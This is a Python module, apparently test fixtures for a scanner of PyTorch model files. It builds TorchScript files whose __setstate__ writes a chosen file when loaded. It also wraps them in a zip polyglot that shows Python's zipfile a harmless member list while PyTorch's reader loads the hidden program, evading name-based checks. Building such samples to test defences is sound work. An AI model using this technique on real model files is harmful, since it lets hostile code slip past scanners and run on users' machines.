"""Harmful files: opened by the wrong reader, they write a file."""

import io
import itertools
import struct
import zipfile

_count = itertools.count()
CENTRAL = "<4s6H3L5H2L"  # bytes of an entry in the list of a zip file


def write_program(path, mark):
    """Write a TorchScript program that, when it is loaded, writes the file `mark`."""
    import torch

    name = f"Program{next(_count)}"  # torch knows each class once
    module = type(name, (torch.jit.ScriptModule,), {})()
    module.define(
        "def __getstate__(self) -> Tuple[Tensor, bool]:\n"
        "    return torch.zeros(1), self.training\n"
    )
    module.define(
        "def __setstate__(self, state: Tuple[Tensor, bool]) -> None:\n"
        f"    torch.save(state[0], {str(mark)!r})\n"
        "    self.training = state[1]\n"
    )
    module.save(str(path))


def write_polyglot(path, mark, state):
    """Write a file that is `state` for zipfile and a program for torch.

    Its end record states the place of the program's list of members; before the end
    record stands the list of `state`.

    Args:
        path: The file.
        mark: The file that the program writes when it is loaded.
        state: What `torch.save` would write.
    """
    import torch

    program, plain = io.BytesIO(), io.BytesIO()
    write_program(path, mark)
    program.write(path.read_bytes())
    torch.save(state, plain)
    hidden, hidden_list, count = _split(program.getvalue())
    shown, shown_list, _ = _split(plain.getvalue())
    size = max(len(hidden_list), len(shown_list)) + 1
    hidden_list, shown_list = _pad(hidden_list, size), _pad(shown_list, size)
    room = hidden + b"\0" * len(shown) + hidden_list  # its place is past that of shown
    start = len(hidden) + len(shown)
    concat = len(room) + len(shown) - start
    shown_list = _move(shown_list, len(room) - concat)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, size, start, 0)
    path.write_bytes(room + shown + shown_list + end)
    with zipfile.ZipFile(path) as archive:  # what a check by names alone would see
        names = archive.namelist()
        assert any(name.endswith("/data.pkl") for name in names)
        assert not any(name.endswith("/constants.pkl") for name in names)
        archive.read(names[0])
    records = torch._C.PyTorchFileReader(str(path)).get_all_records()
    assert "constants.pkl" in records


def _split(data):
    """Return the members of a zip file, the list of them, and how many there are."""
    end = data.rindex(b"PK\5\6")
    count, size, start = struct.unpack("<H2L", data[end + 10 : end + 20])
    return data[:start], data[start : start + size], count


def _entries(table):
    """Return the entries of a list: fields, and the bytes behind them."""
    while table:
        fields = list(struct.unpack(CENTRAL, table[:46]))
        length = 46 + fields[10] + fields[11] + fields[12]
        yield fields, table[46:length]
        table = table[length:]


def _join(entries):
    return b"".join(struct.pack(CENTRAL, *fields) + rest for fields, rest in entries)


def _pad(table, size):
    """Lengthen a list by the comment of its last entry."""
    entries = list(_entries(table))
    fields, rest = entries[-1]
    more = size - len(table)
    fields[12] += more
    entries[-1] = (fields, rest + b" " * more)
    return _join(entries)


def _move(table, by):
    """Shift the offsets of all members."""
    entries = list(_entries(table))
    for fields, _ in entries:
        fields[16] += by
    return _join(entries)
